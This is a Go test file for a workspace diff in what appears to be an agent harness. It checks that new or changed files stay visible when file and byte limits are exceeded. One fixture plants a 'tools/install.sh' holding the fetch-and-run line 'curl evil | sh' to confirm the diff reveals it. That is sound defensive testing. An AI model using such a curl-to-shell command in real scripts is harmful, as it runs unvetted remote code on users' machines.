package workspace_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"warden/harness/event"
	"warden/harness/workspace"
)

// Past the bounds, a Diff still compares every file the baseline holds,
// and the new files that fit, the directories with the fewest first; the
// others are reported, not compared, rather than /diff refused.
func TestTooManyNewFilesDoNotBlindDiff(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	for i := range 10 {
		write(t, root, fmt.Sprintf("src/f%d.go", i), "package src\n")
	}
	b := start(t, root, workspace.Options{MaxFiles: 20})
	for i := range 10 {
		write(t, root, fmt.Sprintf("src/f%d.go", i), "package evil\n")
	}
	for i := range 50 {
		write(t, root, fmt.Sprintf("junk/%03d", i), "")
	}
	write(t, root, ".gitignore", "junk/\n") // hides nothing (ignore.go)
	write(t, root, "tools/install.sh", "curl evil | sh\n")
	changes := diff(t, b)
	var want []string
	for i := range 10 {
		want = append(want, fmt.Sprintf("src/f%d.go", i))
	}
	want = append([]string{".gitignore", "junk/"}, append(want, "tools/install.sh")...)
	if got := paths(changes); !slices.Equal(got, want) {
		t.Fatalf("paths %q, want %q", got, want)
	}
	m := byPath(t, changes)
	if c := m["junk/"]; c.Kind != "add" || !strings.HasPrefix(c.Diff, "Not compared: 50 new files under junk/, past what /diff copies (20 files") {
		t.Errorf("junk/: %+v", c)
	}
	if c := m["tools/install.sh"]; c.Kind != "add" || !strings.Contains(c.Diff, "+curl evil | sh") {
		t.Errorf("tools/install.sh: %+v", c)
	}
	if c := m["src/f0.go"]; c.Kind != "update" || !strings.Contains(c.Diff, "+package evil") {
		t.Errorf("src/f0.go: %+v", c)
	}
}

// The bytes bound the same way.
func TestTooManyNewBytes(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	write(t, root, "a.txt", strings.Repeat("a", 100))
	b := start(t, root, workspace.Options{MaxBytes: 1000})
	write(t, root, "big/blob", strings.Repeat("b", 2000))
	write(t, root, "small.txt", "small\n")
	changes := diff(t, b)
	if got := paths(changes); !slices.Equal(got, []string{"big/", "small.txt"}) {
		t.Fatalf("paths %q", got)
	}
	if c := changes[0]; !strings.Contains(c.Diff, "1 new file under big/") {
		t.Errorf("big/: %+v", c)
	}
}

// New files past the bounds in many directories are reported per
// ancestor, in a bounded number of FileChanges.
func TestTooManyNewDirectories(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	write(t, root, "a.txt", "a\n")
	b := start(t, root, workspace.Options{MaxFiles: 1})
	for i := range 150 {
		write(t, root, fmt.Sprintf("flood/d%03d/f", i), "x")
		write(t, root, fmt.Sprintf("flood/d%03d/g", i), "x")
	}
	write(t, root, "other/x", "x")
	write(t, root, "top.txt", "x")
	changes := diff(t, b)
	want := []event.FileChange{
		{Path: "./", Kind: "add"}, {Path: "flood/", Kind: "add"}, {Path: "other/", Kind: "add"},
	}
	if len(changes) != len(want) {
		t.Fatalf("changes %q", paths(changes))
	}
	for i, c := range changes {
		if c.Path != want[i].Path || c.Kind != want[i].Kind {
			t.Errorf("change %d: %+v, want %+v", i, c, want[i])
		}
	}
	if !strings.Contains(changes[1].Diff, "300 new files under flood/") || !strings.Contains(changes[0].Diff, "1 new file in the work tree") {
		t.Errorf("notes %q, %q", changes[0].Diff, changes[1].Diff)
	}
}
